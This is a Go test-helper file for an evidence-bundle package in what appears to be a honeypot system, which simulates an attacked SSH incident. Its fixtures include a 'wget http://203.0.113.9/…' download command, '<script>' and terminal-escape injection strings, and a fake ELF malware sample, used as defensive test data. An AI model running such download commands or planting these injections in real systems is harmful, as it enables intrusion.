package bundle

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/audit"
	"honeyguide/internal/eventlog"
	"honeyguide/internal/eventlog/memory"
	"honeyguide/internal/evidence"
	"honeyguide/internal/ipc"
	"honeyguide/internal/seal"
	"honeyguide/internal/state"
	"honeyguide/internal/state/sqlite"
)

var noon = time.Date(2026, 3, 14, 12, 0, 0, 0, time.UTC)

var anna = Actor{Name: "anna", Kind: "user"}

// keyDir keeps keys in a folder.
type keyDir string

func (d keyDir) Read(name string) ([]byte, error) { return os.ReadFile(filepath.Join(string(d), name)) }

func (d keyDir) Write(name string, text []byte) error {
	return os.WriteFile(filepath.Join(string(d), name), text, 0o600)
}

// rig is a deployment with one attacked incident.
type rig struct {
	*testing.T
	*Room
	dir     string
	store   *sqlite.Store
	events  *memory.Store
	trail   *audit.Log
	records *evidence.Store
	samples *evidence.Samples
	sample  string
	clock   time.Time
}

func (r *rig) must(err error) {
	r.Helper()
	if err != nil {
		r.Fatal(err)
	}
}

func newRig(t *testing.T) *rig {
	t.Helper()
	r := &rig{T: t, dir: t.TempDir(), clock: noon}
	now := func() time.Time { return r.clock }
	var err error
	r.store, err = sqlite.Open(t.Context(), sqlite.Config{}, state.Deps{Dir: r.dir, Now: now})
	r.must(err)
	r.events = memory.Open(eventlog.Deps{Now: now})
	r.trail, err = audit.Open(t.Context(), audit.Options{Dir: filepath.Join(r.dir, "audit"), Keys: filepath.Join(r.dir, "keys"), Now: now})
	r.must(err)
	r.records, err = evidence.Open(filepath.Join(r.dir, "recordings"), evidence.Options{})
	r.must(err)
	r.samples, err = evidence.OpenSamples(filepath.Join(r.dir, "samples"), evidence.SampleOptions{Vault: seal.Clear(filepath.Join(r.dir, "keys")), Now: now})
	r.must(err)
	r.open()
	t.Cleanup(func() { r.must(errors.Join(r.store.Close(), r.trail.Close(), r.records.Close(), r.samples.Close())) })
	return r
}

// open opens the room over the rig's stores.
func (r *rig) open() {
	r.Helper()
	room, err := Open(r.Context(), Deps{
		Dir: filepath.Join(r.dir, "evidence"), State: r.store, Events: r.events, Recording: r.records.Open, Samples: r.samples, Trail: r.trail,
		Keys: keyDir(filepath.Join(r.dir, "keys")), Node: Node{"edge-1", "test"}, Now: func() time.Time { return r.clock },
		Configuration: func(context.Context) ([]byte, error) { return []byte("node: {name: edge-1}\n"), nil },
		Standing:      func(context.Context) ([]byte, error) { return []byte("{}\n"), nil },
		Firewall:      func(context.Context) ([]byte, error) { return nil, errors.New("there is none") },
	})
	r.must(err)
	r.Room = room
	ctx, stop := context.WithCancel(r.Context())
	var wg sync.WaitGroup
	wg.Go(func() { _ = room.Run(ctx) })
	r.Cleanup(func() { stop(); wg.Wait() })
}

// attack fills the rig with an incident of n events.
func (r *rig) attack(n int) {
	r.Helper()
	src := honeyguide.Endpoint{Addr: netip.MustParseAddrPort("203.0.113.7:4000")}
	var events []honeyguide.Event
	for i := range n {
		e := honeyguide.Event{
			ID: fmt.Sprintf("event-%d", i), Time: noon.Add(time.Duration(i) * time.Second), Observed: noon, Class: honeyguide.ClassProcess, Activity: "launch",
			Sensor: "ssh", Service: "ssh", Session: "session00001", Src: src, Attrs: map[string]any{"cmd_line": fmt.Sprintf("wget http://203.0.113.9/%d; \x1b[31m<script>", i)},
		}
		events = append(events, e, honeyguide.Event{ID: fmt.Sprintf("other-%d", i), Time: noon, Session: "somebodyelse", Src: honeyguide.Endpoint{Addr: netip.MustParseAddrPort("198.51.100.1:1")}})
	}
	for len(events) > 0 {
		k := min(len(events), 500)
		_, err := r.events.Append(r.Context(), eventlog.Batch{Events: events[:k]})
		r.must(err)
		events = events[k:]
	}
	for i := range 3 {
		r.must(r.records.Chunk(ipc.Chunk{Session: "session00001", Time: noon.Add(time.Duration(i) * time.Second), Stream: 'o', Data: []byte("uname -a\r\n")}))
	}
	r.sample = r.bring([]byte("\x7fELF malware of the day"))
	r.must(r.store.Update(r.Context(), func(tx state.Tx) error {
		ctx := r.Context()
		in := honeyguide.Incident{
			Key: "attacker:203.0.113.7", Title: "Break-in from 203.0.113.7 <b>", Severity: honeyguide.SeverityHigh, CreatedAt: noon, FirstAt: noon, LastAt: noon.Add(time.Duration(n) * time.Second),
			Attackers: []string{"203.0.113.7"}, Sessions: []string{"session00001"}, AlertCount: 1, EventCount: int64(n),
		}
		_, err := tx.Incidents().Save(ctx, &in)
		a := honeyguide.Alert{
			Time: noon, LastAt: noon, CreatedAt: noon, Detector: "behaviour", RuleID: "loader", Title: "Loader", Severity: honeyguide.SeverityHigh, Src: src, Session: "session00001",
			Incident: in.ID, EventIDs: []string{"event-0", "gone"}, DedupeKey: "x",
		}
		_, err2 := tx.Alerts().Save(ctx, &a)
		s := honeyguide.Session{ID: "session00001", Sensor: "ssh", Service: "ssh", Src: src, StartedAt: noon, LastAt: noon.Add(time.Duration(n) * time.Second), EndedAt: noon.Add(time.Duration(n) * time.Second), Recording: "session00001.cast", Samples: []string{r.sample}}
		p := honeyguide.Plan{ID: "p1", Incident: in.ID, Action: state.ActionBlockIP, Target: "203.0.113.7", Mode: honeyguide.ModeApply, State: honeyguide.PlanVerified, CreatedAt: noon}
		return errors.Join(err, err2, tx.Sessions().Save(ctx, &s), tx.Plans().Save(ctx, &p),
			tx.Samples().Sight(ctx, honeyguide.Sample{ID: r.sample, Size: 24, Type: "elf", Kept: "yes"}, honeyguide.Sighting{EventID: "e", Session: "session00001", Time: noon, Src: src}),
			tx.Timeline().Add(ctx, &honeyguide.TimelineEntry{Incident: in.ID, Kind: honeyguide.EntryComment, By: "anna", At: noon, Text: "looked at it\x1b]0;x\x07"}))
	}))
}

// bring keeps content as attackers bring it.
func (r *rig) bring(content []byte) string {
	r.Helper()
	r.must(r.samples.Stage("test", ipc.Piece{File: 1, Data: content}))
	e := honeyguide.Event{Src: honeyguide.Endpoint{Addr: netip.MustParseAddrPort("203.0.113.7:4000")}, Attrs: map[string]any{ipc.AttrFile: int64(1)}}
	r.samples.Seal("test", &e)
	if e.Str(honeyguide.AttrKept) != "yes" {
		r.Fatalf("the sample was not kept: %v", e.Attrs)
	}
	return e.Str(honeyguide.AttrSHA256)
}

// collect makes a bundle and returns its bytes.
func (r *rig) collect(to ...string) (honeyguide.Bundle, []byte) {
	r.Helper()
	b, err := r.Collect(r.Context(), "I-1", "order 12", to, anna, time.Minute)
	r.must(err)
	if b.State != honeyguide.BundleReady {
		r.Fatalf("the bundle is %s: %s", b.State, b.Error)
	}
	f, err := r.Read(b)
	r.must(err)
	defer f.Close()
	text, err := io.ReadAll(f)
	r.must(err)
	return b, text
}

// verify verifies bytes with the key of the rig.
func (r *rig) verify(text []byte) *Report {
	r.Helper()
	report, err := Verify(r.Context(), bytes.NewReader(text), int64(len(text)), Check{Key: r.trail.PublicKey()})
	r.must(err)
	return report
}

func (r *rig) faults(text []byte) string {
	r.Helper()
	var out []string
	for _, f := range r.verify(text).Faults {
		out = append(out, f.String())
	}
	return strings.Join(out, "\n")
}
